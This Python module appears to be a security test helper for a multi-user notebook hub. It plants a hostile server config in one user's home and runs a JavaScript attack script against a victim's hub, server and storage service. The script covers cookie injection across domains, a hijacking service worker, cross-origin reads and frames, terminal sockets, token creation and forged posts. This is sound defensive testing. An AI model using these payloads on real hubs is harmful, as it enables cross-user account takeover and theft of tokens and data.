"""A notebook server whose user means harm to whoever visits it."""

from __future__ import annotations

import os
import pwd
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

# What any user can put into her own home: pages of her own, at her server's address.
_CONFIG = '''
from jupyter_server import serverapp
from jupyter_server.auth.decorator import allow_unauthenticated
from tornado import web

WORKER = """
addEventListener("install", event => event.waitUntil(skipWaiting()));
addEventListener("activate", event => event.waitUntil(clients.claim()));
addEventListener("fetch", event => event.respondWith(
    new Response("<title>the worker of another</title>",
        {headers: {"Content-Type": "text/html"}})));
"""


class Hostile(web.RequestHandler):
    @allow_unauthenticated
    def get(self, name):
        self.set_header("Service-Worker-Allowed", "/")
        if name == "worker.js":
            self.set_header("Content-Type", "text/javascript")
            self.finish(WORKER)
            return
        for domain in self.get_arguments("domain"):
            for cookie in self.get_arguments("cookie"):
                self.add_header("Set-Cookie", f"{cookie}; Domain={domain}; Path=/")
        kind = "text/plain" if name == "cookies" else "text/html"
        self.set_header("Content-Type", kind)
        seen = self.request.headers.get("Cookie", "")
        self.finish(seen if name == "cookies" else "<title>hostile</title><body>here")


before = serverapp.ServerWebApplication.init_handlers


def init_handlers(self, default_services, settings):
    rule = (settings["base_url"] + "hostile/(.*)", Hostile)
    return [rule, *before(self, default_services, settings)]


serverapp.ServerWebApplication.init_handlers = init_handlers
'''


@contextmanager
def hostile(user: str) -> Iterator[None]:
    """Have the servers that ``user`` starts from now on serve ``hostile/``."""
    account = pwd.getpwnam(user)
    folder = Path(account.pw_dir) / ".jupyter"
    path = folder / "jupyter_server_config.py"
    folder.mkdir(exist_ok=True)
    path.write_text(_CONFIG)
    for one in (folder, path):
        os.chown(one, account.pw_uid, account.pw_gid)
    try:
        yield
    finally:
        path.unlink()


# What a page tries against the gateway of whoever looks at it: (hub, her server, the
# storage service, her name). It tells what it got.
ATTACKS = """
const [hub, server, storage, victim, done] = arguments;
const tried = {};
const told = what =>
  what.then(value => `got ${value}`, error => `refused ${error.name}`);
const late = new Promise(resolve => setTimeout(() => resolve('nothing in time'), 4000));
const get = url => told(fetch(url, {credentials: 'include'}).then(a => a.text()));
const post = (url, body) => told(
  fetch(url, {method: 'POST', mode: 'no-cors', credentials: 'include', body}));
const frame = url => Promise.race([late, new Promise(resolve => {
  const made = document.createElement('iframe');
  made.onload = () => {
    try { resolve(`got ${made.contentWindow.document.documentElement.outerHTML}`); }
    catch (error) { resolve(`refused ${error.name}`); }
  };
  made.src = url;
  document.body.append(made);
})]);
const form = (url, fields) => Promise.race([late, new Promise(resolve => {
  const target = document.createElement('iframe');
  const made = document.createElement('form');
  target.name = `f${Math.random()}`;
  Object.assign(made, {method: 'post', action: url, target: target.name});
  for (const [name, value] of Object.entries(fields)) {
    const field = document.createElement('input');
    Object.assign(field, {name, value});
    made.append(field);
  }
  document.body.append(target, made);
  target.onload = () => resolve('sent');
  made.submit();
})]);
const socket = url => Promise.race([late, new Promise(resolve => {
  const made = new WebSocket(url.replace(/^http/, 'ws'));
  made.onopen = () => resolve('got a socket');
  made.onerror = () => resolve('refused');
})]);
const worker = (url, scope) => told(
  navigator.serviceWorker.register(url, {scope}).then(found => found.scope));
(async () => {
  const api = `${hub}/hub/api/users/${victim}`;
  for (const path of ['/hub/home', '/hub/token', '/hub/api/user', '/hub/api/'])
    tried[`read ${path}`] = await get(hub + path);
  tried['read contents'] = await get(`${server}/user/${victim}/api/contents`);
  tried['read lab'] = await get(`${server}/user/${victim}/lab`);
  tried['read storage'] = await get(`${storage}/services/storage/api/v1/me`);
  tried['read storage page'] = await get(`${storage}/services/storage/`);
  tried['frame hub'] = await frame(`${hub}/hub/home`);
  tried['frame token'] = await frame(`${hub}/hub/token`);
  tried['frame lab'] = await frame(`${server}/user/${victim}/lab`);
  tried['frame storage'] = await frame(`${storage}/services/storage/`);
  tried['socket'] = await socket(`${server}/user/${victim}/api/events/subscribe`);
  tried['terminal'] = await socket(`${server}/user/${victim}/terminals/websocket/1`);
  tried['worker of the hub'] = await worker(`${hub}/user/bob/hostile/worker.js`);
  tried['scope of the hub'] = await worker('worker.js', `${hub}/`);
  tried['own worker'] = await worker('worker.js', '/');
  tried['own page'] = await get('page');
  tried['own frame'] = await frame('page');
  // What follows gets no answer to read: it counts what has happened.
  await post(`${api}/tokens`, JSON.stringify({note: 'stolen'}));
  await post(`${api}/server`, '{}');
  await post(`${server}/user/${victim}/api/terminals`, '{}');
  await post(`${server}/user/${victim}/api/contents`, JSON.stringify({type: 'file'}));
  await post(`${storage}/services/storage/api/v1/buckets`, '{"name": "stolen"}');
  await form(`${api}/tokens`, {note: 'stolen'});
  await form(`${hub}/hub/spawn/${victim}/stolen`, {profile: 'small'});
  done(tried);
})();
"""


def got(tried: dict[str, Any]) -> dict[str, Any]:
    """Return what an attack got hold of."""
    return {what: said for what, said in tried.items() if str(said).startswith("got")}
